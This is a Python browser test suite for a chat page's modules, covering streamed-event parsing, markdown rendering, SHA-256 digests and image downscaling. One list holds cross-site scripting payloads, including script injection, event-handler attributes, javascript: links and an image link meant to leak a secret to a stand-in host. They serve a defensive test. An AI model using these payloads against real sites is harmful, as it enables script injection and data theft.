"""The page's modules by themselves, in a browser: streams cut anywhere, hostile text, digests, pictures too large."""

from __future__ import annotations

import base64
import hashlib
import io
import random
import re
from collections.abc import Iterator
from typing import Any

import PIL.Image
import pytest

from tests.serve.browser import Stub, Watched, started
from tests.serve.served import listening

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def page() -> Iterator[Any]:
    with started() as browser, listening(Stub().app) as url:
        watched = Watched(browser)
        yield watched.open(url)
        watched.close()


STREAM = (
    "\ufeffdata: 四个七\n\n: a comment\r\n\r\ndata: two\r\ndata: lines\r\n\r\nevent: error\rdata:none\r\r"
    "id: 3\ndata\n\nretry: 5\ndata:  😀 \n\ndata: never ended"
)
EVENTS = [
    {"type": "message", "data": "四个七"},
    {"type": "message", "data": "two\nlines"},
    {"type": "error", "data": "none"},
    {"type": "message", "data": ""},
    {"type": "message", "data": " 😀 "},
]


def test_events_are_the_same_wherever_the_stream_was_cut(page: Any) -> None:
    draw = random.Random(0)
    raw = STREAM.encode()
    every = [[1] * len(raw), [len(raw)], *([at, len(raw) - at] for at in range(1, len(raw)))]
    every += [[draw.randint(0, 9) for _ in raw] for _ in range(20)]
    found = page.evaluate(
        """async ([raw, every]) => {
          const {Events, events} = await import("./page/sse.js");
          const bytes = new Uint8Array(raw);
          const seen = new Set();
          for (const sizes of every) {
            const parser = new Events();
            const got = [];
            let at = 0;
            for (const size of sizes) got.push(...parser.push(bytes.slice(at, at += size)));
            got.push(...parser.push(bytes.slice(at)), ...parser.end());
            seen.add(JSON.stringify(got));
          }
          const streamed = [];
          for await (const one of events(new Blob([bytes]).stream())) streamed.push(one);
          seen.add(JSON.stringify(streamed));
          return [...seen].map((one) => JSON.parse(one));
        }""",
        [list(raw), every],
    )
    assert found == [EVENTS]


RENDER = """async (text) => {
  const {rendered} = await import("./page/rendered.js");
  const held = document.createElement("div");
  held.append(rendered(text));
  return held.innerHTML;
}"""


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
        ("**a** *b* _c_ `d*e*` ~~f~~", "<p><strong>a</strong> <em>b</em> <em>c</em> <code>d*e*</code> <s>f</s></p>"),
        ("snake_case_name 2*3*4 a ** b", "<p>snake_case_name 2*3*4 a ** b</p>"),
        ("# T\n## S #", "<h3>T</h3><h4>S</h4>"),
        ("1. a\n2. b\n   - c\n   - d\n3. e", "<ol><li>a</li><li>b<ul><li>c</li><li>d</li></ul></li><li>e</li></ol>"),
        ("4. a\n\n5. b\n\nend", '<ol start="4"><li>a</li><li>b</li></ol><p>end</p>'),
        (
            "Items:\n- a\n* b\n\n> q\n> r",
            "<p>Items:</p><ul><li>a</li><li>b</li></ul><blockquote><p>q<br>r</p></blockquote>",
        ),
        (
            "```py\nif a < b:\n  x\n\n```\nz",
            '<pre tabindex="0"><code data-language="py">if a &lt; b:\n  x\n</code></pre><p>z</p>',
        ),
        ("````\n```\n````", '<pre tabindex="0"><code>```</code></pre>'),
        ("~~~\nopen", '<pre tabindex="0"><code>open</code></pre>'),
        ("---", "<hr>"),
        (
            "| a | b |\n|---|:-:|\n| **1** | 2 |",
            '<div class="scroll" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead>'
            "<tbody><tr><td><strong>1</strong></td><td>2</td></tr></tbody></table></div>",
        ),
        ("a | b", "<p>a | b</p>"),
        (
            "[x](https://a.example/b?c=1)",
            '<p><span><a href="https://a.example/b?c=1" target="_blank" rel="noopener noreferrer nofollow" '
            'title="https://a.example/b?c=1">x</a> (a.example)</span></p>',
        ),
        ("", ""),
    ],
)
def test_an_answer_is_set_as_it_was_meant(page: Any, text: str, html: str) -> None:
    assert page.evaluate(RENDER, text) == html


ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "![x](http://evil.example/leak?secret)",
    "[x](javascript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1) [y](data:text/html,<script>window.hit=1</script>) [z](//evil.example)",
    '[x](https://a.example" onmouseover="window.hit=1)',
    '```"><img src=x onerror=window.hit=1>\ncode\n```',
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| </table><script>window.hit=1</script> | c |",
    "# <svg onload=window.hit=1>\n- <iframe srcdoc='<script>parent.hit=1</script>'>\n> <base href=//evil.example>",
    "**<b onclick=window.hit=1>** `</code><script>window.hit=1</script>`",
    "<style>@import 'http://evil.example'</style><form action=//evil.example><input autofocus onfocus=window.hit=1>",
    "\u202e<a href='http://evil.example'>x</a>\x00&lt;script&gt;",
]
MAY = set(
    re.findall(r"\w+", "P BR STRONG EM CODE S H3 H4 OL UL LI BLOCKQUOTE PRE HR DIV TABLE THEAD TBODY TR TH TD A SPAN")
)


def test_an_answer_is_never_read_as_html(page: Any) -> None:
    found = page.evaluate(
        """async (attacks) => {
          const {rendered} = await import("./page/rendered.js");
          const out = [];
          for (const text of attacks) {
            const held = document.createElement("div");
            document.body.append(held);
            held.append(rendered(text));
            await new Promise((done) => setTimeout(done));
            const nodes = [...held.querySelectorAll("*")];
            out.push({
              names: nodes.map((node) => node.tagName),
              attributes: nodes.flatMap((node) => [...node.attributes].map((one) => one.name)),
              links: nodes.filter((node) => node.href).map((node) => node.protocol),
              text: held.textContent,
            });
            held.remove();
          }
          return {out, hit: window.hit ?? null};
        }""",
        ATTACKS,
    )
    assert found["hit"] is None
    for attack, one in zip(ATTACKS, found["out"], strict=True):
        assert set(one["names"]) <= MAY, attack
        assert set(one["attributes"]) <= {
            "href",
            "target",
            "rel",
            "title",
            "class",
            "tabindex",
            "data-language",
            "start",
        }
        assert set(one["links"]) <= {"https:"}
    assert "window.hit = 1" in found["out"][0]["text"]  # it is shown, as the text that it is


def test_a_hostile_answer_is_set_in_no_time(page: Any) -> None:
    texts = [
        "*" * 20000,
        "`" * 20000 + "a",
        "_a" * 10000,
        "[" * 20000,
        "> " * 5000,
        "- " * 5000,
        "|" * 20000 + "\n|-|",
        "a**" * 9000,
    ]
    took = page.evaluate(
        """async (texts) => {
          const {rendered} = await import("./page/rendered.js");
          const began = performance.now();
          texts.forEach(rendered);
          return performance.now() - began;
        }""",
        texts,
    )
    assert took < 5000


def test_digests_are_sha_256(page: Any) -> None:
    draw = random.Random(1)
    data = [bytes(draw.randbytes(size)) for size in (0, 1, 55, 56, 63, 64, 65, 119, 120, 1000)]
    found = page.evaluate(
        """async (all) => {
          const {sha256} = await import("./page/digest.js");
          return all.map((raw) => [...sha256(new Uint8Array(raw))]);
        }""",
        [list(one) for one in data],
    )
    assert [bytes(one) for one in found] == [hashlib.sha256(one).digest() for one in data]


def _png(width: int, height: int, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    noise = PIL.Image.effect_noise((width, height), 90).convert(mode)
    noise.save(out, "PNG")
    return out.getvalue()


READ = """async ([given, raw, limits, room]) => {
  const {read} = await import("./page/pictures.js");
  const file = new File([Uint8Array.from(atob(raw), (one) => one.charCodeAt(0))], "a picture", {type: given});
  try {
    const {made, notice} = await read(file, limits, room);
    const back = new Uint8Array(await made.blob.arrayBuffer());
    const {width, height, nbytes, blob: {type}} = made;
    return {width, height, type, nbytes, raw: btoa(String.fromCharCode(...back)), notice};
  } catch (error) {
    return {error: error.message};
  }
}"""
CAPS = {"picture_pixels": 40_000_000, "picture_bytes": 20 << 20, "body": 32 << 20}


def read(page: Any, data: bytes, kind: str = "image/png", room: int = 1 << 30, **caps: int) -> dict[str, Any]:
    found = page.evaluate(READ, [kind, base64.b64encode(data).decode(), CAPS | caps, room])
    return {**found, "raw": base64.b64decode(found.get("raw", ""))}


def test_a_picture_within_the_caps_goes_as_it_is(page: Any) -> None:
    data = _png(60, 40)
    found = read(page, data, picture_pixels=2400, picture_bytes=len(data))
    assert found["raw"] == data and not found["notice"]


def test_a_picture_over_the_caps_is_made_smaller_and_that_is_told(page: Any) -> None:
    found = read(page, _png(60, 40), picture_pixels=1000)
    assert found["width"] * found["height"] <= 1000 and found["type"] == "image/png"
    assert abs(found["width"] / found["height"] - 1.5) < 0.1 and "60 × 40" in found["notice"]
    assert PIL.Image.open(io.BytesIO(found["raw"])).size == (found["width"], found["height"])
    found = read(page, _png(200, 200), picture_bytes=6000)
    assert found["nbytes"] <= 6000 and found["type"] == "image/jpeg" and "made smaller" in found["notice"]
    assert "5.9 KiB a picture" in found["notice"]
    assert read(page, _png(200, 200), room=3000)["nbytes"] <= 3000
    assert "does not fit" in read(page, _png(200, 200), room=10)["error"]


def test_what_the_server_does_not_take_is_sent_as_what_it_does(page: Any) -> None:
    out = io.BytesIO()
    PIL.Image.new("RGB", (8, 6), (200, 10, 10)).save(out, "BMP")
    found = read(page, out.getvalue(), "image/bmp")
    assert found["type"] == "image/png" and "bmp" in found["notice"]
    assert PIL.Image.open(io.BytesIO(found["raw"])).convert("RGB").getpixel((3, 3)) == (200, 10, 10)


def test_what_is_no_picture_is_told(page: Any) -> None:
    assert read(page, b"hello", "text/plain")["error"] == "a picture is no picture."
    assert "cannot be read" in read(page, b"hello", "image/png")["error"]
